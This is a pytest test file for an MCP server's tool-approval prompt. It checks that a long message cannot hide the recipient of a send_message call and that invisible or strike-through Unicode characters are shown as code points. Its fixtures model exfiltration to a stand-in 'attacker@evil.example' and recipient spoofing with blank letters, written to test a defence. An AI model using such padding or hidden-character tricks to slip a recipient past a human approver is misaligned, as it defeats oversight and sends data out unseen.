"""The approval question shows every argument: a long value is cut on its own, so it cannot
push the recipient out of view, and letters that draw nothing or strike through the text
are written as code points."""

from __future__ import annotations

from typing import Any

import anyio
import mcp_types as types
import pytest

from tests.serve.test_approval import User, client, profile

pytestmark = pytest.mark.mcp


def asked(records: Any, tmp_path: Any, arguments: dict[str, Any]) -> str:
    catalog, folder = records
    user = User("decline")

    async def session() -> types.CallToolResult:
        async with client("-c", str(catalog), "-p", str(profile(tmp_path)), user=user) as tc:
            await tc.call_tool("add_tool", {"tool_names": ["send_message"]})
            return await tc.call_tool("send_message", arguments)

    result = anyio.run(session)
    assert result.is_error and not (folder / "outbox.txt").exists()
    [message] = user.asked
    return message


def test_a_long_text_cannot_hide_the_recipient(records, tmp_path):
    message = asked(records, tmp_path, {"text": "Quarterly figures, as agreed. " * 40,
                                        "to": "attacker@evil.example"})
    [arguments] = [line for line in message.split("\n") if line.startswith("Arguments: ")]
    assert '"to": "attacker@evil.example"' in arguments
    assert '"text": "Quarterly figures' in arguments and "(1,202 characters in all)" in arguments
    assert len(message) < 1_500


def test_blank_letters_and_overlays_are_written_as_code_points(records, tmp_path):
    message = asked(records, tmp_path, {"text": "hello", "to": "ana\u3164\u3164@x.example"
                                                            "\u0336 \u115f\u2800"})
    assert '"to": "ana\\u3164\\u3164@x.example\\u0336 \\u115f\\u2800"' in message
    assert not any(ch in message for ch in "\u3164\u0336\u115f\u2800")
